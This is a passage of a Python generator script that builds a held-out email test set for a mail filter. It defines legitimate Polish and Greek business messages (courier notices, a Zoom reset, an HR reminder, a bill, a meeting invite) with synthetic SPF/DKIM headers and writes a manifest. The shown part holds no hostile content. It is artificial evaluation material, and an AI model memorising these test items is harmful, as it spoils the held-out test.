    hop = ("mta02.mailing.inpost.pl", "mta02.mailing.inpost.pl", "91.197.232.12", "1.3")
    rp = "bounce@mailing.inpost.pl"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "inpost.pl", "mailing"), dmarc=("pass", "inpost.pl", "reject"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("inpost.pl", "mailing", "from:to:subject:date:message-id"),
                frm=("InPost", "noreply@inpost.pl"), to=[("", rcpt)], subject="Paczka czeka w Paczkomacie WRO05M \u2013 kod odbioru %s" % code,
                subj_enc="Q", root=root, mid=msgid_generic(key, "mailing.inpost.pl", "uuid"))


@B("35", "pl", "internal-hr-safety-training", "iso-8859-2",
   "Internal HR notice via mail-int01 about mandatory periodic health-and-safety e-learning and medical referrals, with a link to the external training platform.")
def b35(key):
    sent = t(1, "10:02:44", 60)
    frm = S["kowalczyk"]
    to = who("nowak", "wisniewski")
    body = """Dzień dobry,

przypominam, że do 18.12.2026 r. wszystkie osoby, którym w tym roku upływa termin, muszą ukończyć okresowe szkolenie BHP. Szkolenie odbywa się w formie e-learningu na platformie naszego dostawcy:

https://szkolenia.bhp-online.pl/examplegroup

Dane logowania otrzymają Państwo w osobnej wiadomości bezpośrednio od operatora platformy (adres nadawcy: noreply@bhp-online.pl). Test końcowy można powtarzać, zaświadczenie zostanie automatycznie przesłane do działu kadr.

Dodatkowo przypominam o badaniach okresowych - skierowania do odbioru u mnie (pokój 12, parter). Badania wykonujemy jak dotychczas w Medicover, ul. Legnicka 40.

W razie pytań proszę o kontakt.

Pozdrawiam
Agnieszka Kowalczyk
Specjalista ds. Kadr i Płac
Example Group | Oddział Wrocław
ul. Legnicka 55, 54-203 Wrocław
tel. +48 71 358 20 14
"""
    p = p_internal(key, sent, "pl-PL", False, "Okresowe szkolenie BHP - termin do 18.12.2026")
    root = text(body, "plain", "iso-8859-2", "quoted-printable")
    return mail(key, rp=frm[1], rcpt=to[0][1], sent=sent, hop=p["hop"], ar=ar_internal(frm[1]), chain=p["chain"],
                frm=frm, to=to, subject="Okresowe szkolenie BHP - termin do 18.12.2026", subj_cs="iso-8859-2", root=root,
                mid=p["mid"], extra=p["extra"])


@B("36", "pl", "zoom-password-reset", "utf-8",
   "Genuine Zoom password-reset email in Polish requested by the logistics manager, with a one-time link on zoom.us.")
def b36(key):
    sent = t(4, "08:37:12", 60)
    rcpt = S["wisniewski"][1]
    url = "https://zoom.us/resetpassword?code=%s&email=%s" % (alnum(40, "code", key), rcpt.replace("@", "%40"))
    plain = """Cześć Piotr,

otrzymaliśmy prośbę o zresetowanie hasła do konta Zoom powiązanego z adresem %s.

Kliknij poniższy link, aby ustawić nowe hasło:
%s

Link wygaśnie za 30 minut.

Jeśli nie prosiłeś o zresetowanie hasła, zignoruj tę wiadomość - Twoje hasło nie zostanie zmienione.

Dziękujemy,
Zespół Zoom

Zoom Communications, Inc., 55 Almaden Blvd, 6th Floor, San Jose, CA 95113
""" % (rcpt, url)
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f7f7fa;font-family:Lato,Helvetica,Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-size:15px;color:#232333">
<tr><td style="padding:24px 32px"><b style="color:#0b5cff;font-size:26px">zoom</b></td></tr>
<tr><td style="padding:0 32px 24px"><p>Cześć Piotr,</p><p>otrzymaliśmy prośbę o zresetowanie hasła do konta Zoom powiązanego z adresem <b>%s</b>.</p>
<p style="margin:24px 0"><a href="%s" style="background:#0b5cff;color:#fff;padding:12px 28px;border-radius:8px;text-decoration:none">Zresetuj hasło</a></p>
<p>Link wygaśnie za 30 minut. Jeśli nie prosiłeś o zresetowanie hasła, zignoruj tę wiadomość &ndash; Twoje hasło nie zostanie zmienione.</p><p>Dziękujemy,<br>Zespół Zoom</p></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#747487;background:#f7f7fa">Zoom Communications, Inc., 55 Almaden Blvd, 6th Floor, San Jose, CA 95113</td></tr></table></body></html>""" % (rcpt, url)
    root = multi("alternative", [text(plain, "plain", "utf-8", "base64"), html(htm, "utf-8", "base64")], bnd("php", key))
    hop = ("o2.email.zoom.us", "o2.email.zoom.us", "149.72.171.126", "1.3")
    rp = "bounces+2394174-7e1b-%s@email.zoom.us" % rcpt.replace("@", "=")
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "zoom.us", "s1"), dmarc=("pass", "zoom.us", "reject"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("zoom.us", "s1", "from:mime-version:subject:to:content-type:from:subject:to"),
                frm=("Zoom", "no-reply@zoom.us"), to=[("", rcpt)], subject="Zresetuj hasło do konta Zoom", root=root,
                mid="<%s@geopod-ismtpd-7>" % alnum(22, "m", key))


@B("37", "el", "acs-courier-shipment", "windows-1253",
   "Genuine ACS Courier shipment notification (HTML) with tracking number and links to acscourier.net, no payment requested.")
def b37(key):
    sent = t(1, "08:14:56", 120)
    rcpt = S["papadopoulos"][1]
    vo = "7201846532"
    body = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1253"></head>
<body style="margin:0;background:#f3f3f3;font-family:Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-size:14px;color:#333">
<tr><td style="background:#e30613;padding:16px 24px;color:#fff;font-size:24px;font-weight:bold">ACS</td></tr>
<tr><td style="padding:24px"><h2 style="margin-top:0">Η αποστολή σας είναι καθ' οδόν</h2>
<p>Αγαπητέ/ή πελάτη,</p><p>η αποστολή σας από <b>ΠΑΠΑΣΤΡΑΤΟΣ ΕΜΠΟΡΙΚΗ Α.Ε.</b> παραλήφθηκε και αναμένεται να παραδοθεί <b>την Τετάρτη 02/12/2026</b> στη διεύθυνση:</p>
<p>Example Group, 26ης Οκτωβρίου 90, 546 27 Θεσσαλονίκη</p>
<table cellpadding="5" style="font-size:13px;background:#f7f7f7;width:100%%"><tr><td>Αριθμός αποστολής</td><td><b>%s</b></td></tr><tr><td>Τεμάχια</td><td>2</td></tr><tr><td>Αντικαταβολή</td><td>Όχι</td></tr></table>
<p style="margin:22px 0"><a href="https://www.acscourier.net/el/myacs/anafores-apostolwn/anazitisi-apostolwn/?trackingNumber=%s" style="background:#e30613;color:#fff;padding:10px 22px;text-decoration:none">Παρακολούθηση αποστολής</a></p>
<p style="font-size:12px">Η ACS δεν ζητά ποτέ πληρωμή μέσω συνδέσμου σε email ή SMS για αποστολές χωρίς αντικαταβολή.</p></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#888">ACS Ταχυδρομικές Υπηρεσίες Μ.Α.Ε. · Πέτρου Ράλλη 2 &amp; Πειραιώς, 177 78 Ταύρος<br>Το μήνυμα αυτό στάλθηκε αυτόματα, παρακαλούμε μην απαντάτε.</td></tr></table></body></html>""" % (vo, vo)
    root = html(body, "windows-1253", "quoted-printable")
    hop = ("mail2.acscourier.net", "mail2.acscourier.net", "195.97.99.42", "1.2")
    rp = "noreply@acscourier.net"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "acscourier.net", "acs"), dmarc=("pass", "acscourier.net", "quarantine"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("acscourier.net", "acs", "from:to:subject:date:message-id"),
                frm=("ACS Courier", "noreply@acscourier.net"), to=[("", rcpt)], subject="Η αποστολή σας %s είναι καθ' οδόν" % vo,
                subj_cs="windows-1253", subj_enc="B", root=root, mid=msgid_generic(key, "acscourier.net"))


@B("38", "el", "internal-sales-meeting-ics", "iso-8859-7",
   "Internal Outlook meeting request via mail-int01 from the Greek sales manager to his team for the December sales meeting (text/calendar REQUEST).")
def b38(key):
    sent = t(30, "17:05:21", 120)
    frm = S["papadopoulos"]
    to = who("georgiou", "antoniou")
    start = T(2026, 12, 7, 10, 0, 0, 120)
    end = T(2026, 12, 7, 11, 30, 0, 120)
    desc = """Καλησπέρα σε όλους,

Συνάντηση πωλήσεων Δεκεμβρίου: απολογισμός Νοεμβρίου, στόχοι Q1 2027 και προετοιμασία για την επίσκεψη από τη Νυρεμβέργη στις 15/12.

Ελένη, αν μπορείς φέρε τα στοιχεία εισπράξεων Νοεμβρίου. Δημήτρη, χρειαζόμαστε τον προβολέα στην αίθουσα 1.

Νίκος"""
    uid = "040000008200E00074C5B7101A82E008" + hexid(80, "uid", key).upper()
    cal = ics("REQUEST", uid, frm, to, start, end, "Συνάντηση πωλήσεων Δεκεμβρίου", desc, "Αίθουσα συσκέψεων 1 (Θεσσαλονίκη)", sent,
              extra=["X-MICROSOFT-CDO-BUSYSTATUS:TENTATIVE", "X-MICROSOFT-CDO-IMPORTANCE:1"])
    root = multi("alternative", [text(desc + "\n", "plain", "iso-8859-7", "quoted-printable"),
                                 html("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-7\"></head><body><div style=\"font-family:Calibri,sans-serif;font-size:11pt\">" + _x(desc).replace("\n", "<br>") + "</div></body></html>", "iso-8859-7", "quoted-printable"),
                                 Part([("Content-Type", 'text/calendar; charset="utf-8"; method=REQUEST'), ("Content-Transfer-Encoding", "base64")], b64lines(cal.encode("utf-8")))],
                 bnd("outlook", key))
    p = p_internal(key, sent, "el-GR", False, "Συνάντηση πωλήσεων Δεκεμβρίου")
    return mail(key, rp=frm[1], rcpt=to[0][1], sent=sent, hop=p["hop"], ar=ar_internal(frm[1]), chain=p["chain"],
                frm=frm, to=to, subject="Συνάντηση πωλήσεων Δεκεμβρίου", subj_cs="iso-8859-7", subj_enc="B", root=root,
                mid=p["mid"], extra=p["extra"])


@B("39", "el", "cosmote-business-bill", "utf-8",
   "Genuine COSMOTE Business e-bill notification with amount, due date and links to cosmote.gr, explicitly noting no card data is requested.")
def b39(key):
    sent = t(3, "09:30:17", 120)
    rcpt = S["georgiou"][1]
    acc = "1.0%s" % str(int(hexid(8, "a", key), 16) % 900000000 + 100000000)
    plain = """Αγαπητέ πελάτη,

ο λογαριασμός σας COSMOTE Business για την περίοδο 01/11/2026 - 30/11/2026 είναι διαθέσιμος.

Αριθμός λογαριασμού: %s
Ποσό πληρωμής: 187,42 €
Ημερομηνία λήξης: 21/12/2026

Δείτε και κατεβάστε τον λογαριασμό σας στο My COSMOTE Business: https://www.cosmote.gr/business/mycosmote

Η COSMOTE δεν ζητά ποτέ στοιχεία κάρτας ή κωδικούς μέσω email.

Με εκτίμηση,
COSMOTE
""" % acc
    htm = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;background:#f4f4f4;font-family:Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-size:14px;color:#333">
<tr><td style="padding:18px 24px;border-bottom:3px solid #76b82a"><b style="color:#76b82a;font-size:24px">COSMOTE</b> <span style="color:#666">Business</span></td></tr>
<tr><td style="padding:24px"><p>Αγαπητέ πελάτη,</p><p>ο λογαριασμός σας COSMOTE Business για την περίοδο <b>01/11/2026 - 30/11/2026</b> είναι διαθέσιμος.</p>
<table cellpadding="5" style="font-size:13px;background:#f7f7f7;width:100%%"><tr><td>Αριθμός λογαριασμού</td><td>%s</td></tr><tr><td>Ποσό πληρωμής</td><td><b>187,42 €</b></td></tr><tr><td>Ημερομηνία λήξης</td><td>21/12/2026</td></tr></table>
<p style="margin:22px 0"><a href="https://www.cosmote.gr/business/mycosmote" style="background:#76b82a;color:#fff;padding:10px 22px;text-decoration:none">Δείτε τον λογαριασμό</a></p>
<p style="font-size:12px">Η COSMOTE δεν ζητά ποτέ στοιχεία κάρτας ή κωδικούς μέσω email.</p></td></tr>
<tr><td style="padding:14px 24px;font-size:11px;color:#888">ΟΤΕ Α.Ε. - COSMOTE · Λεωφ. Κηφισίας 99, 151 24 Μαρούσι</td></tr></table></body></html>""" % acc
    root = multi("alternative", [text(plain, "plain", "utf-8", "quoted-printable"), html(htm, "utf-8", "quoted-printable")], bnd("javamail", key))
    hop = ("ebill-out1.cosmote.gr", "ebill-out1.cosmote.gr", "195.167.60.21", "1.2")
    rp = "e-bill@cosmote.gr"
    ar = auth_res(spf=("pass", rp, hop[2]), dkim=("pass", "cosmote.gr", "ebill"), dmarc=("pass", "cosmote.gr", "reject"))
    return mail(key, rp=rp, rcpt=rcpt, sent=sent, hop=hop, ar=ar,
                dkim=("cosmote.gr", "ebill", "from:to:subject:date:message-id"),
                frm=("COSMOTE", "e-bill@cosmote.gr"), to=[("", rcpt)], subject="Ο λογαριασμός σας COSMOTE Business Νοεμβρίου είναι διαθέσιμος",
                root=root, mid=msgid_generic(key, "cosmote.gr"))


@B("40", "el", "personal-nameday-wishes", "windows-1253",
   "Personal mail from a friend's Yahoo address to the Greek sales manager's work mailbox with name-day wishes and an invitation.")
def b40(key):
    sent = t(5, "20:11:39", 120)
    rcpt = S["papadopoulos"][1]
    frm = ("Γιώργος Καραγιάννης", "gkaragiannis@yahoo.gr")
    body = """Νίκο μου καλησπέρα!

Χρόνια πολλά για αύριο, να είσαι πάντα γερός και να χαίρεσαι την οικογένειά σου!

Θα είστε σπίτι αύριο το απόγευμα να περάσουμε με την Κατερίνα και τα παιδιά για λίγο; Αν όχι, να κανονίσουμε κανένα τσίπουρο στη Λαδάδικα μέσα στην εβδομάδα.

Σου στέλνω εδώ γιατί το κινητό σου είναι όλο κλειστό.

Φιλιά,
Γιώργος
"""
    root = text(body, "plain", "windows-1253", "8bit")
    hop = ("sonic316-21.consmr.mail.ir2.yahoo.com", "sonic316-21.consmr.mail.ir2.yahoo.com", "77.238.176.197", "1.3")
    ar = auth_res(spf=("pass", frm[1], hop[2]), dkim=("pass", "yahoo.gr", "s2048"), dmarc=("pass", "yahoo.gr", "reject"))
    chain = ["from sonic.gate.mail.ne1.yahoo.com by sonic316.consmr.mail.ir2.yahoo.com with HTTP; %s" % sent.shift(0, 0).rfc()]
    return mail(key, rp=frm[1], rcpt=rcpt, sent=sent, hop=hop, ar=ar, chain=chain,
                dkim=("yahoo.gr", "s2048", "Date:From:To:Subject:References:From:Subject:Reply-To"),
                frm=frm, to=[("", rcpt)], subject="Χρόνια πολλά!", subj_cs="windows-1253", subj_enc="B", root=root,
                mid="<%d.%d.%d@mail.yahoo.com>" % (1000000000 + _n(key, 999999999), 2000000 + _n(key, 999999, "y"), 1764958299000 + _n(key, 999, "z")),
                extra=[("X-Mailer", "WebService/1.1.24562 YMailNorrin"), ("X-YMail-OSG", b64blob(120, "osg", key).replace("+", ".").replace("/", "_")[:150])])

# ===========================================================================
# main
# ===========================================================================

LANG_NAMES = {"en": "English", "de": "German", "ru": "Russian", "es": "Spanish", "it": "Italian", "pl": "Polish", "el": "Greek"}


def write_set(folder, items, prefix):
    os.makedirs(folder, exist_ok=True)
    for f in sorted(os.listdir(folder)):
        if f.endswith(".eml"):
            os.remove(os.path.join(folder, f))
    rows = []
    for num, lang, short, cs, desc, fn in sorted(items, key=lambda x: x[0]):
        name = "%s-%s-%s.eml" % (num, lang, short)
        raw = fn(prefix + num)
        with open(os.path.join(folder, name), "wb") as fh:
            fh.write(raw)
        rows.append((name, lang, cs, desc))
    return rows


def counts(rows):
    langs = {}
    css = {}
    for _, lang, cs, _ in rows:
        langs[lang] = langs.get(lang, 0) + 1
        css[cs] = css.get(cs, 0) + 1
    return langs, css


def main():
    att_rows = write_set(os.path.join(OUT, "attack"), ATTACK, "A")
    bus_rows = write_set(os.path.join(OUT, "business"), BUSINESS, "B")
    L = []
    L.append("# Example Group - held-out mail test set (late 2026)")
    L.append("")
    L.append("Generated by `gen/build.py` (Python 3 standard library only, deterministic). "
             "All messages are raw RFC 5322 files with CRLF line endings, as received at mx01.example.com; "
             "dates 2026-11-30 .. 2026-12-05. Attachments contain harmless content only (placeholders instead of any executable payload).")
    L.append("")
    L.append("- `attack/`: %d hostile or unwanted messages" % len(att_rows))
    L.append("- `business/`: %d legitimate messages that a filter could mistake for hostile" % len(bus_rows))
    L.append("- `staff.txt`: one line per staff member, `Display Name=address`")
    L.append("")
    L.append("Infrastructure: inbound MX `mx01.example.com`; internal mail is relayed by `mail-int01.example.com [10.20.0.25]`. Domains: example.com, examplegroup.eu.")
    L.append("")
    L.append("## Staff")
    L.append("")
    L.append("| Name | Address | Office | Role |")
    L.append("|---|---|---|---|")
    for k, n, e, o, r in STAFF:
        L.append("| %s | %s | %s | %s |" % (n, e, o, r))
    L.append("")
    L.append("## Regular external correspondents")
    L.append("")
    L.append("| Name | Address | Organisation / role |")
    L.append("|---|---|---|")
    for n, e, d in CORRESPONDENTS:
        L.append("| %s | %s | %s |" % (n, e, d))
    L.append("")
    L.append("Known bank accounts: Lieferant GmbH %s (Sparkasse Erlangen, %s); Ferretti Trasporti %s (Banco BPM); Partner Logistik %s (Santander Bank Polska)." % (
        iban_fmt(IBAN_LIEFERANT), BIC_LIEFERANT, iban_fmt(IBAN_FERRETTI), iban_fmt(IBAN_PARTNER)))
    for title, rows in (("attack", att_rows), ("business", bus_rows)):
        L.append("")
        L.append("## %s/" % title)
        L.append("")
        langs, css = counts(rows)
        L.append("Languages: " + ", ".join("%s %d" % (LANG_NAMES[k], v) for k, v in sorted(langs.items())) + ".  ")
        L.append("Main body charsets: " + ", ".join("%s %d" % (k, v) for k, v in sorted(css.items())) + ".")
        L.append("")
        L.append("| File | Language | Charset | Description |")
        L.append("|---|---|---|---|")
        for name, lang, cs, desc in rows:
            L.append("| %s | %s | %s | %s |" % (name, LANG_NAMES[lang], cs, desc.replace("|", "/")))
    L.append("")
    with open(os.path.join(OUT, "MANIFEST.md"), "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(L))
    with open(os.path.join(OUT, "staff.txt"), "w", encoding="utf-8", newline="\n") as fh:
        for k, n, e, o, r in STAFF:
            fh.write("%s=%s\n" % (n, e))
    print("attack: %d files, business: %d files, written to %s" % (len(att_rows), len(bus_rows), OUT))


if __name__ == "__main__":
    main()
